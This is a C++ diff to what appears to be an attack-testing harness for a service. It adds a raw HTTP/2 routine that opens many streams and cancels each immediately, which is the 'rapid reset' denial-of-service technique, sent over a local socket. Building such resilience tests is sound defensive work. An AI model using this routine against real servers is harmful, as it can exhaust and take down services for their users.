@@ -3,13 +3,16 @@
 #include <sys/socket.h>
 #include <sys/un.h>
 
+#include <cerrno>
 #include <cstring>
+#include <utility>
 
 namespace gradsync::attack {
 namespace {
 
 // RFC 9113: frame types and flags.
-constexpr std::uint8_t kData = 0, kHeaders = 1, kSettings = 4;
+constexpr std::uint8_t kData = 0, kHeaders = 1, kReset = 3, kSettings = 4;
+constexpr std::uint32_t kCancel = 8;
 constexpr std::uint8_t kEndStream = 1, kEndHeaders = 4;
 constexpr std::uint16_t kInitialWindowSize = 4;
 
@@ -58,6 +61,14 @@ RawHttp2::RawHttp2(const std::string& path, std::uint32_t window)
   address.sun_family = AF_UNIX;
   std::memcpy(address.sun_path, path.c_str(), path.size() + 1);
   if (connect(fd_.get(), reinterpret_cast<sockaddr*>(&address), sizeof(address)) != 0) return;
+  Begin(window);
+}
+
+RawHttp2::RawHttp2(Descriptor connected, std::uint32_t window) : fd_(std::move(connected)) {
+  if (fd_.get() >= 0) Begin(window);
+}
+
+void RawHttp2::Begin(std::uint32_t window) {
   connected_ = true;
   Send("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" +
        Frame(kSettings, 0, 0, BigEndian(kInitialWindowSize, 2) + BigEndian(window, 4)));
@@ -83,6 +94,25 @@ bool RawHttp2::CallWithHeader(const std::string& path, const std::string& name,
   next_stream_ += 2;
   return Send(
       Frame(kHeaders, kEndHeaders | kEndStream, stream, HeadersOf(path) + Header(name, value)));
+}
+
+bool RawHttp2::OpenAndReset(const std::string& path, int calls) {
+  // POST and http by their numbers in HPACK's table, to send as many calls as possible.
+  const std::string headers =
+      std::string("\x83\x86\x04") + Text(path) + "\x01" + Text("a") + Header("te", "trailers");
+  std::string frames;
+  for (int i = 0; i < calls; ++i) {
+    frames += Frame(kHeaders, kEndHeaders, next_stream_, headers) +
+              Frame(kReset, 0, next_stream_, BigEndian(kCancel, 4));
+    next_stream_ += 2;
+  }
+  if (!Send(frames)) return false;
+  char dropped[1 << 14];
+  ssize_t size = 0;
+  while ((size = recv(fd_.get(), dropped, sizeof(dropped), MSG_DONTWAIT)) > 0) {
+  }
+  connected_ = size < 0 && errno == EAGAIN;
+  return connected_;
 }
 
 }  // namespace gradsync::attack
